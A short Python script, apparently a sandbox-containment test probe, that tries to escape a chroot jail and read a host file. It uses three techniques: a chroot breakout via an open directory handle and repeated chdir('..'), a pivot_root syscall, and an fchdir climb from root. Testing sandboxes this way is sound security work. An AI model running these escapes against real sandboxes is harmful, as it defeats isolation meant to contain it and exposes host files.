# Leaves its root folder: chroot with an open folder, pivot_root, fchdir. $1 is a file of the host.
import ctypes
import os
from attempt import attempt, arguments
from calls import syscall

path = arguments()[0]


def breakout():
    os.makedirs("jail", exist_ok=True)
    way = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(way)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return open(path).read()


def upwards():
    way = os.open("/", os.O_RDONLY)
    os.fchdir(way)
    for _ in range(50):
        os.chdir("..")
    return open("." + path).read()


attempt("chroot", breakout)
attempt("pivot_root", lambda: syscall("pivot_root", ctypes.c_char_p(b"."), ctypes.c_char_p(b".")))
attempt("fchdir upwards", upwards)
